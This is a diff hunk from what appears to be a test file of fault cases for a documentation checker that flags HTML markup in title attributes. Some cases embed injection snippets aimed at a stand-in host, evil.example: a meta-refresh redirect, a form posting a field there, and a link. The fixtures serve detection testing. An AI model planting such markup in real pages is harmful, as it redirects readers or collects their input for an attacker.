@@ -135,7 +135,7 @@ FAULTS = [
     Fault("title-meta", append(JA, '<span title="<meta http-equiv=\'refresh\' content=\'0;url=https://evil.example/\'>">'
                                    "ご注意</span>"), "html-title-markup", JA, "<span title="),
     Fault("link-title", append(EN, '[FAQ](../faq.md "<form action=\'https://evil.example/\'><input name=p></form>")'),
-          "html-title-markup", EN, '"<form action=', also={"parity-facts"}),
+          "html-title-markup", EN, '"<form action=', also={"parity-facts"}),  # a link to faq.md in English only
     Fault("abbr-title", append(EN, "Two-factor codes: see the 2FA page.\n\n"
                                    '*[2FA]: <a href="https://evil.example/">two-factor</a>'),
           "html-title-markup", EN, "*[2FA]:"),
